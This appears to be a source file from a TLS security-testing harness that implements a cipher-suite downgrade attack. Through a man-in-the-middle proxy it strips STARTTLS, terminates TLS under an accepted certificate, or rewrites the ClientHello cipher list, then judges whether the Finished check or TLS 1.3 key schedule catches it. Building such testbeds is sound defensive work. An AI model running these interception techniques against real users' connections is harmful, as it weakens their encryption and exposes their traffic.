@@ -1,0 +1,401 @@
+/**
+ * `downgrade-suite`: TLS cipher-suite downgrade — the attacker makes the victim's TLS session run
+ * the weakest cipher suite the victim offers (static-RSA key exchange, without forward secrecy,
+ * < forward-secret CBC < forward-secret AEAD; within a class the shorter key; ranked by
+ * core/tls/cipher-suites.ts `compareSuiteStrength`), from the strongest position it holds
+ * without a premise (attacks/kit/position.ts):
+ *
+ * - STARTTLS stripped: no TLS is left to downgrade — the session runs without any, a worse
+ *   downgrade than any suite.
+ * - TLS terminated with a certificate the victim accepts: the attacker's hop to the victim picks
+ *   the weakest suite the victim offers.
+ * - TLS only relayed: the attacker rewrites the ClientHello's cipher_suites to the weakest suites
+ *   of the victim's offer (core/tls/client-hello-rewrite.ts) and relays the rest. The handshake
+ *   transcript should catch it — the Finished check (RFC 5246 §7.4.9), or in TLS 1.3 the key
+ *   schedule the transcript feeds (RFC 8446 §4.4.1, §7.1) — and the verdict names what did.
+ *
+ * Judged by what happened: the suite alice's client actually negotiated, compared with the
+ * server's own choice for her untouched offer (her recorded ClientHello sent to the same server
+ * again, and its ServerHello read) — never by a table of expected outcomes.
+ */
+import { X509Certificate } from 'node:crypto';
+import type tls from 'node:tls';
+import { usesTls } from '../../core/profile.ts';
+import { parseAlert } from '../../core/tls/alerts.ts';
+import { CIPHER_SUITES, compareSuiteStrength, describeSuite, suiteStrength, type CipherSuiteInfo } from '../../core/tls/cipher-suites.ts';
+import type { ClientHello } from '../../core/tls/client-hello.ts';
+import { rewriteClientHelloSuites } from '../../core/tls/client-hello-rewrite.ts';
+import { HandshakeReassembler } from '../../core/tls/handshake-reassembly.ts';
+import { TlsRecordReader, tlsStart } from '../../core/tls/record-layer.ts';
+import { CONTENT_TYPE, HANDSHAKE_TYPE, isGrease } from '../../core/tls/registry.ts';
+import { parseServerHello, type ServerHello } from '../../core/tls/server-hello.ts';
+import { conversationEvidence, findCanary, proxyEvidence, serverRefusals, sightingEvidence } from '../kit/evidence.ts';
+import { attackerIdentity, chainPrefix, positionAddon, positionEvidence, type Position } from '../kit/position.ts';
+import type { ProxyAddon, ProxyConnectionRecord, ProxyEngine, ReplayChunk } from '../proxy.ts';
+import type { Attack, AttackContext, Evidence, Observations, Verdict } from '../types.ts';
+
+const TLS13 = 0x0304;
+/** Longest wait for the server's ServerHello to the victim's untouched ClientHello, ms. */
+const CONTROL_ANSWER_TIMEOUT_MS = 2000;
+
+/** The victim's offer as the attacker reads it from the ClientHello. */
+export interface SuiteOffer {
+  /** every known suite offered that the offered versions can negotiate, in the victim's order */
+  suites: Array<Readonly<CipherSuiteInfo>>;
+  /** offered values secchat does not model (not ranked), as names */
+  unranked: string[];
+  /** the hello offers TLS 1.3 (supported_versions) */
+  tls13: boolean;
+  /** the hello offers a version below TLS 1.3 */
+  legacy: boolean;
+}
+
+/** Reads the offer from a decoded ClientHello (RFC 8446 §4.1.2, §4.2.1). */
+export function suiteOffer(hello: ClientHello): SuiteOffer {
+  const versions = (hello.supportedVersions ?? [hello.legacyVersion]).filter((v) => !isGrease(v));
+  const tls13 = versions.includes(TLS13);
+  const legacy = versions.some((v) => v < TLS13);
+  const suites: Array<Readonly<CipherSuiteInfo>> = [];
+  const unranked: string[] = [];
+  for (const s of hello.cipherSuites) {
+    const info = CIPHER_SUITES.get(s.id);
+    if (!info) {
+      if (s.name !== 'GREASE' && !s.name.endsWith('_SCSV')) unranked.push(s.name);
+      continue;
+    }
+    if (info.keyExchange === 'TLS13' ? tls13 : legacy) suites.push(info);
+  }
+  return { suites, unranked, tls13, legacy };
+}
+
+/** The suites of `offer` that tie for weakest, in the victim's order (empty for an empty offer). */
+export function weakestSuites(suites: ReadonlyArray<Readonly<CipherSuiteInfo>>): Array<Readonly<CipherSuiteInfo>> {
+  if (!suites.length) return [];
+  const min = suites.reduce((a, b) => (compareSuiteStrength(b, a) < 0 ? b : a));
+  return suites.filter((s) => compareSuiteStrength(s, min) === 0);
+}
+
+const names = (suites: ReadonlyArray<Readonly<CipherSuiteInfo>>) => suites.map((s) => s.name).join(', ');
+
+/** What the server sent first on a TLS stream: its ServerHello, and any plaintext alerts. */
+function serverFlight(s2c: Buffer): { serverHello: ServerHello | null; alerts: string[] } {
+  const at = tlsStart(s2c, HANDSHAKE_TYPE.server_hello);
+  const alertAt = s2c.findIndex((b, i) => b === CONTENT_TYPE.alert && s2c[i + 1] === 3 && (i === 0 || s2c[i - 1] === 0x0a));
+  const from = at >= 0 ? at : alertAt;
+  const out = { serverHello: null as ServerHello | null, alerts: [] as string[] };
+  if (from < 0) return out;
+  try {
+    const reader = new TlsRecordReader();
+    reader.push(s2c.subarray(from));
+    const hs = new HandshakeReassembler();
+    for (let rec = reader.next(); rec; rec = reader.next()) {
+      if (rec.type === CONTENT_TYPE.handshake && !out.serverHello) {
+        hs.push(rec.fragment);
+        const msg = hs.next();
+        if (msg?.msgType === HANDSHAKE_TYPE.server_hello) out.serverHello = parseServerHello(msg.body);
+      } else if (rec.type === CONTENT_TYPE.alert && rec.fragment.length === 2) {
+        const a = parseAlert(rec.fragment);
+        out.alerts.push(`${a.level === 2 ? 'fatal' : 'warning'} ${a.name}`);
+      }
+    }
+  } catch {
+    // encrypted records or a cut stream end the reading: what was read so far stands
+  }
+  return out;
+}
+
+/** The victim's side of connection `rec` on the wire (client-wire), one direction. */
+function wire(engine: ProxyEngine, rec: ProxyConnectionRecord, dir: 'c2s' | 's2c'): Buffer {
+  return engine.bytes({ conn: rec.id, dir, layer: 'client-wire' });
+}
+
+/**
+ * The control: the server's own choice for the victim's untouched offer. Sends what the victim
+ * sent on `rec` up to and including its ClientHello (a STARTTLS request first, waiting for the
+ * answer where the victim did) to the same server on a fresh connection, and reads the ServerHello.
+ * @returns the suite the server chose, or null with why not
+ */
+async function serverChoiceForUntouched(engine: ProxyEngine, rec: ProxyConnectionRecord): Promise<{ suite: Readonly<CipherSuiteInfo> | null; detail: string }> {
+  const hello = rec.clientHello;
+  if (!hello) return { suite: null, detail: 'no ClientHello was recorded' };
+  const chunks: ReplayChunk[] = [];
+  let serverSpoke = false;
+  for (const c of engine.traffic) {
+    if (c.conn !== rec.id || c.layer !== 'client-wire') continue;
+    if (c.dir === 's2c') serverSpoke = true;
+    else {
+      chunks.push({ data: c.data, awaitAnswer: serverSpoke });
+      serverSpoke = false;
+      if (c.data.equals(hello)) break;
+    }
+  }
+  const r = await engine.replayOnNewConnection(chunks, {
+    settled: (_peer, answer) => { const f = serverFlight(answer); return !!f.serverHello || f.alerts.length > 0; },
+    timeoutMs: CONTROL_ANSWER_TIMEOUT_MS,
+  });
+  const f = serverFlight(r.response);
+  const suite = f.serverHello ? (CIPHER_SUITES.get(f.serverHello.cipherSuite.id) ?? null) : null;
+  if (suite) return { suite, detail: `the server's own choice for alice's untouched ClientHello (sent to it again on a fresh connection): ${describeSuite(suite)}` };
+  return { suite: null, detail: f.serverHello ? `the server chose ${f.serverHello.cipherSuite.name}, which secchat does not rank` : `the server sent no ServerHello to alice's untouched ClientHello${f.alerts.length ? ` (alert: ${f.alerts.join(', ')})` : ''}` };
+}
+
+/** alice's connection record (her address as the proxy saw it), else the first with a ClientHello. */
+function aliceConnection(obs: Observations): ProxyConnectionRecord | undefined {
+  const conns = obs.proxy?.connections ?? [];
+  const peer = obs.clients.alice.localAddress;
+  return conns.find((c) => c.clientPeer === peer && c.clientHello) ?? conns.find((c) => c.clientHello);
+}
+
+/** The position without the rungs inside TLS (a channel taken over plays no part in a TLS downgrade). */
+function tlsPosition(pos: Position): Position {
+  return { ...pos, channel: null, weakCipher: null, steps: pos.steps.filter((s) => !s.startsWith('took over') && !s.startsWith('rewrote')) };
+}
+
+/** Rung 2: with the STARTTLS offer stripped the session runs with no TLS at all. @returns null when not observed */
+async function suiteByStrip(ctx: AttackContext, pos: Position): Promise<Verdict | null> {
+  const runPos: Position = { ...pos, tls: null };
+  const positioned = positionAddon(runPos, ctx.pki, { name: 'downgrade-suite' });
+  const obs = await ctx.runConversation({ addon: positioned.addon });
+  const alice = obs.clients.alice;
+  if (!alice.connected || alice.negotiated !== null) return null;
+  if (!obs.proxy!.connections.some((c) => c.notes.some((n) => n.startsWith('removed "starttls": true')))) return null;
+  const sightings = findCanary(obs.proxy!.engine, ctx.canary, ['client-wire', 'plaintext']);
+  const evidence: Evidence[] = [
+    { kind: 'downgraded-to', detail: `alice's client connected with no TLS at all (negotiated: none, so no cipher suite) although the profile's transport is ${ctx.profile.transport}` },
+    ...sightingEvidence(sightings, ctx.canary),
+    ...positionEvidence(runPos),
+    ...proxyEvidence(obs),
+    ...conversationEvidence(obs),
+  ];
+  return {
+    outcome: 'succeeded',
+    reason: `${chainPrefix(runPos)}alice's session ran with no TLS at all — no cipher suite is left to downgrade, which is worse than any weak suite${sightings.length ? '; the attacker read the canary' : ''}`,
+    summary: 'no TLS: STARTTLS stripped',
+    impact: ['confidentiality', 'integrity'],
+    evidence,
+    negotiated: null,
+    data: { via: 'starttls-strip', canaryRead: sightings.length > 0 },
+  };
+}
+
+/** The OpenSSL settings that make the attacker's hop accept exactly `suite`. */
+function hopSettings(suite: Readonly<CipherSuiteInfo>): { ciphers: string; maxVersion?: tls.SecureVersion } {
+  // node sorts TLS_* names into the TLS 1.3 suites; the ≤ 1.2 list must not be empty, and is unused at 1.3.
+  if (suite.keyExchange === 'TLS13') return { ciphers: `${suite.name}:ALL:@SECLEVEL=0` };
+  return { ciphers: `${suite.openssl}:@SECLEVEL=0`, maxVersion: 'TLSv1.2' };
+}
+
+/** Rung 3: the attacker's hop to the victim picks the weakest suite the victim offers. */
+async function suiteByTermination(ctx: AttackContext, pos: Position, cert: NonNullable<Position['tls']>['cert']): Promise<Verdict> {
+  const runPos = tlsPosition(pos);
+  const identity = attackerIdentity(ctx.pki, cert);
+  const keyType = new X509Certificate(identity.certPem).publicKey.asymmetricKeyType;
+  // The attacker's certificate signs the handshake: it can only serve suites whose authentication its key does.
+  const serves = (s: Readonly<CipherSuiteInfo>) => s.authentication === null || (s.authentication === 'RSA') === (keyType === 'rsa');
+  let picked: Readonly<CipherSuiteInfo> | null = null;
+  let offer: SuiteOffer | null = null;
+  const addon: ProxyAddon = {
+    name: 'downgrade-suite',
+    onClientHello(conn, _raw, hello) {
+      if (!hello) return { action: 'terminate', identity };
+      offer ??= suiteOffer(hello);
+      const w = weakestSuites(suiteOffer(hello).suites.filter(serves))[0];
+      if (!w) return { action: 'terminate', identity };
+      picked ??= w;
+      conn.note(`the attacker's hop to the victim accepts only ${w.name}, the weakest suite the victim offers that its ${keyType} certificate can serve`);
+      return { action: 'terminate', identity, ...hopSettings(w) };
+    },
+  };
+  const server = await ctx.startServer();
+  const obs = await ctx.runConversation({ addon, server });
+  const aliceConn = aliceConnection(obs);
+  const control = aliceConn ? await serverChoiceForUntouched(obs.proxy!.engine, aliceConn) : { suite: null, detail: 'alice sent no ClientHello through the attacker' };
+  const n = obs.clients.alice.negotiated;
+  const got = n?.cipher ? ([...CIPHER_SUITES.values()].find((s) => s.name === n.cipher) ?? null) : null;
+  const off = offer as SuiteOffer | null;
+  const chain = chainPrefix(runPos);
+  const evidence: Evidence[] = [
+    { kind: 'suites-offered', detail: off ? `alice's ClientHello offers ${names(off.suites)}${off.unranked.length ? ` (not ranked: ${off.unranked.join(', ')})` : ''}` : 'no ClientHello seen' },
+    { kind: 'suite-before', detail: control.detail },
+    { kind: 'suite-after', detail: n ? `alice's client negotiated ${n.protocol} ${n.cipher}${got ? ` — ${describeSuite(got)}` : ''} with the attacker` : 'alice negotiated no TLS' },
+    { kind: 'accepted-certificate', detail: `alice's client accepted the attacker's ${cert} certificate (${runPos.steps.find((s) => s.startsWith('terminated TLS')) ?? 'probed'})` },
+    ...positionEvidence(runPos),
+    ...proxyEvidence(obs),
+    ...conversationEvidence(obs),
+  ];
+  const data = { via: 'tls-termination', cert, offered: off?.suites.map((s) => s.name) ?? [], before: control.suite?.name ?? null, after: n?.cipher ?? null };
+  if (got && control.suite && compareSuiteStrength(got, control.suite) < 0) {
+    return {
+      outcome: 'succeeded',
+      reason: `${chain}picked the weakest suite alice offers: her session ran on ${n!.protocol} ${describeSuite(got)} where the same offer gets ${describeSuite(control.suite)} from the server`,
+      summary: `forced ${!suiteStrength(got).forwardSecret ? 'RSA kx' : !suiteStrength(got).aead ? 'CBC' : `${suiteStrength(got).keyBits}-bit key`}: TLS terminated`,
+      impact: ['integrity'],
+      evidence,
+      negotiated: n,
+      data,
+    };
+  }
+  if (got && control.suite && off) {
+    return {
+      outcome: 'blocked',
+      reason: `${chain}the victim offers no weaker suite: alice's offer (${names(off.suites)}) has nothing below ${describeSuite(control.suite)}, the server's own choice — the attacker's hop got ${got.name}`,
+      summary: 'no weaker suite in the offer',
+      impact: [],
+      evidence,
+      negotiated: n,
+      data,
+    };
+  }
+  const err = obs.clients.alice.error;
+  return {
+    outcome: 'error',
+    reason: `no verdict: ${n ? `alice negotiated ${n.cipher}` : `alice negotiated no TLS${err ? ` (${err.code}: ${err.message})` : ''}`}; ${control.detail}`,
+    summary: 'inconclusive',
+    impact: [],
+    evidence,
+    negotiated: n ?? null,
+    data,
+  };
+}
+
+/** Rung 1: rewrite the relayed ClientHello's cipher_suites to the weakest the victim offers. */
+async function suiteByRewrite(ctx: AttackContext, pos: Position): Promise<Verdict> {
+  const runPos = tlsPosition(pos);
+  let offer: SuiteOffer | null = null;
+  let kept: Array<Readonly<CipherSuiteInfo>> = [];
+  const addon: ProxyAddon = {
+    name: 'downgrade-suite',
+    onClientHello(_conn, raw, hello) {
+      if (!hello) return { action: 'relay' };
+      const o = suiteOffer(hello);
+      offer ??= o;
+      const weakest = weakestSuites(o.suites);
+      // Nothing below the victim's best: a rewrite would change nothing worth having.
+      if (!weakest.length || weakest.length === o.suites.length || compareSuiteStrength(weakest[0]!, o.suites.reduce((a, b) => (compareSuiteStrength(b, a) > 0 ? b : a))) === 0) return { action: 'relay' };
+      kept = weakest;
+      // Signalling values (SCSVs, GREASE) stay: only the real suites are stripped.
+      const signalling = hello.cipherSuites.filter((s) => !CIPHER_SUITES.has(s.id) && (s.name === 'GREASE' || s.name.endsWith('_SCSV'))).map((s) => s.id);
+      return { action: 'rewrite', hello: rewriteClientHelloSuites(raw, [...weakest.map((s) => s.id), ...signalling]), note: `rewrote the ClientHello's cipher_suites from ${hello.cipherSuites.map((s) => s.name).join(', ')} to ${names(weakest)}${signalling.length ? ' (signalling values kept)' : ''}` };
+    },
+  };
+  const server = await ctx.startServer();
+  const obs = await ctx.runConversation({ addon, server });
+  const off = offer as SuiteOffer | null;
+  const chain = chainPrefix(runPos);
+  const n = obs.clients.alice.negotiated;
+  const offerText = off ? `${names(off.suites)}${off.unranked.length ? ` (not ranked: ${off.unranked.join(', ')})` : ''}` : '';
+  if (!off) {
+    return { outcome: 'error', reason: 'no verdict: no ClientHello crossed the attacker\'s path', summary: 'no ClientHello seen', impact: [], evidence: [...positionEvidence(runPos), ...proxyEvidence(obs), ...conversationEvidence(obs)], negotiated: n };
+  }
+  if (!kept.length) {
+    return {
+      outcome: 'blocked',
+      reason: `${chain}no weaker suite in the victim's offer: every suite alice offers (${offerText}) is as strong as her best, so stripping the offer could force nothing weaker — the attacker relayed it untouched`,
+      summary: 'no weaker suite in the offer',
+      impact: [],
+      evidence: [{ kind: 'suites-offered', detail: `alice's ClientHello offers ${offerText}` }, ...positionEvidence(runPos), ...proxyEvidence(obs), ...conversationEvidence(obs)],
+      negotiated: n,
+      data: { via: 'rewrite', offered: off.suites.map((s) => s.name), rewritten: false },
+    };
+  }
+  const aliceConn = aliceConnection(obs);
+  const control = aliceConn ? await serverChoiceForUntouched(obs.proxy!.engine, aliceConn) : { suite: null, detail: 'alice sent no ClientHello through the attacker' };
+  const flight = aliceConn ? serverFlight(wire(obs.proxy!.engine, aliceConn, 's2c')) : { serverHello: null, alerts: [] };
+  const clientAlerts = aliceConn ? serverFlight(wire(obs.proxy!.engine, aliceConn, 'c2s')).alerts : [];
+  const chose = flight.serverHello ? (CIPHER_SUITES.get(flight.serverHello.cipherSuite.id) ?? null) : null;
+  const got = n?.cipher ? ([...CIPHER_SUITES.values()].find((s) => s.name === n.cipher) ?? null) : null;
+  const err = obs.clients.alice.error;
+  const refusals = serverRefusals(obs).filter((r) => r.event === 'tls_error' || r.event === 'socket_error');
+  const evidence: Evidence[] = [
+    { kind: 'suites-offered', detail: `alice's ClientHello offers ${offerText}` },
+    { kind: 'suite-before', detail: control.detail },
+    { kind: 'suites-rewritten', detail: `the attacker forwarded a ClientHello offering only ${names(kept)}` },
+    { kind: 'suite-after', detail: flight.serverHello ? `the server answered the rewritten offer with ${flight.serverHello.cipherSuite.name}${chose ? ` — ${describeSuite(chose)}` : ''}` : `the server sent no ServerHello to the rewritten offer${flight.alerts.length ? ` (alert: ${flight.alerts.join(', ')})` : ''}` },
+    ...(flight.alerts.length ? [{ kind: 'tls-alert', detail: `the server sent alice ${flight.alerts.join(', ')}` }] : []),
+    ...(clientAlerts.length ? [{ kind: 'tls-alert', detail: `alice's client sent ${clientAlerts.join(', ')}` }] : []),
+    ...[...new Set(refusals.map((r) => `${r.event} ${String(r.code ?? '')}: ${String(r.message ?? '')}`.slice(0, 300)))].map((detail) => ({ kind: 'server-refusal', detail })),
+    ...positionEvidence(runPos),
+    ...proxyEvidence(obs),
+    ...conversationEvidence(obs),
+  ];
+  const data = { via: 'rewrite', offered: off.suites.map((s) => s.name), kept: kept.map((s) => s.name), before: control.suite?.name ?? null, serverChose: flight.serverHello?.cipherSuite.name ?? null, after: n?.cipher ?? null };
+  if (got && control.suite && compareSuiteStrength(got, control.suite) < 0 && obs.bobReceived === obs.canaryMessage) {
+    return {
+      outcome: 'succeeded',
+      reason: `${chain}rewrote alice's cipher offer to ${names(kept)} and nothing caught it: her session completed on ${n!.protocol} ${describeSuite(got)} (untouched: ${describeSuite(control.suite)}) and the canary went through — the Finished check did not cover the rewritten ClientHello`,
+      summary: `forced ${got.name.replace(/^TLS_/, '').slice(0, 30)}`,
+      impact: ['integrity'],
+      evidence,
+      negotiated: n,
+      data,
+    };
+  }
+  if (!n) {
+    const stopper = rewriteStopper(flight, clientAlerts, err, refusals, chose);
+    if (stopper) {
+      return {
+        outcome: 'blocked',
+        reason: `${chain}rewrote alice's cipher offer to ${names(kept)}; ${stopper}`,
+        summary: stopperSummary(flight),
+        impact: [],
+        evidence,
+        negotiated: null,
+        data,
+      };
+    }
+  }
+  return {
+    outcome: 'error',
+    reason: `no verdict: the attacker rewrote the offer to ${names(kept)}, and alice ${n ? `negotiated ${n.protocol} ${n.cipher}` : `stopped with ${err ? `${err.code}: ${err.message}` : 'no error'}`}${control.suite ? ` (untouched: ${control.suite.name})` : ''} — neither a weaker session with the canary through nor a named refusal`,
+    summary: 'inconclusive',
+    impact: [],
+    evidence,
+    negotiated: n ?? null,
+    data,
+  };
+}
+
+/** What stopped a rewritten handshake, as observed, with the rule that caught it; null when nothing was seen. */
+function rewriteStopper(flight: { serverHello: ServerHello | null; alerts: string[] }, clientAlerts: string[], err: { code: string; message: string } | null, refusals: Array<{ event: string; code?: unknown; message?: unknown }>, chose: Readonly<CipherSuiteInfo> | null): string | null {
+  // alice's and bob's connections fail alike: name each distinct observation once.
+  const seen = [
+    ...new Set([
+      ...flight.alerts.map((a) => `the server's alert ${a}`),
+      ...clientAlerts.map((a) => `alice's client's alert ${a}`),
+      ...refusals.map((r) => `the server's ${String(r.code ?? r.event)}`),
+      ...(err ? [`alice's client's ${err.code}: ${err.message.replace(/^.*?(SSL routines:|$)/, '').slice(0, 100)}`] : []),
+    ]),
+  ];
+  if (!seen.length) return null;
+  const what = seen.join('; ');
+  if (!flight.serverHello) return `the server refused the rewritten offer before any ServerHello — none of the kept suites is one it accepts at the version it picked from alice's supported_versions (${what})`;
+  const sh = flight.serverHello;
+  const chosen = chose ? describeSuite(chose) : sh.cipherSuite.name;
+  if (sh.selectedVersion === 0x0304) return `the server took ${chosen} from the rewritten offer, but TLS 1.3 feeds the handshake transcript into its key schedule (RFC 8446 §4.4.1, §7.1): the two ends derived different keys and the handshake failed (${what})`;
+  const ems = sh.extendedMasterSecret ? '; with the extended master secret (RFC 7627 §4) the transcript also feeds the keys, so the Finished record itself fails to decrypt' : '';
+  return `the server took ${chosen} from the rewritten offer, but the Finished messages cover the whole handshake transcript (RFC 5246 §7.4.9), which differs from what alice sent${ems}: the handshake failed (${what})`;
+}
+
+function stopperSummary(flight: { serverHello: ServerHello | null }): string {
+  if (!flight.serverHello) return 'refused: no shared cipher';
+  return flight.serverHello.selectedVersion === 0x0304 ? 'caught: TLS 1.3 transcript' : 'caught: Finished (transcript)';
+}
+
+export const downgradeSuite: Attack = {
+  id: 'downgrade-suite',
+  title: 'TLS cipher-suite downgrade',
+  description:
+    "From the strongest position it holds without a premise, the attacker makes the victim's TLS session run the weakest cipher suite the victim offers (static-RSA key exchange < forward-secret CBC < forward-secret AEAD; then the shorter key): with STARTTLS stripped there is no TLS left at all; with TLS terminated under a certificate the victim accepts, its own hop picks that suite; otherwise it rewrites the relayed ClientHello's cipher_suites to the weakest ones. Succeeds only if alice's session is observed on a weaker suite than the server chooses for her untouched offer (or on no TLS); blocked names what stopped it — the Finished check or the TLS 1.3 key schedule catching the rewritten transcript, a server that accepts none of the kept suites, or an offer with nothing weaker in it.",
+  applicability(p) {
+    return usesTls(p) ? null : 'the profile uses no TLS: there is no cipher-suite offer to downgrade';
+  },
+  async run(ctx) {
+    const pos = await ctx.position();
+    if (pos.strippedStarttls) {
+      const r = await suiteByStrip(ctx, pos);
+      if (r) return r;
+    }
+    if (pos.tls) return suiteByTermination(ctx, pos, pos.tls.cert);
+    return suiteByRewrite(ctx, pos);
+  },
+};
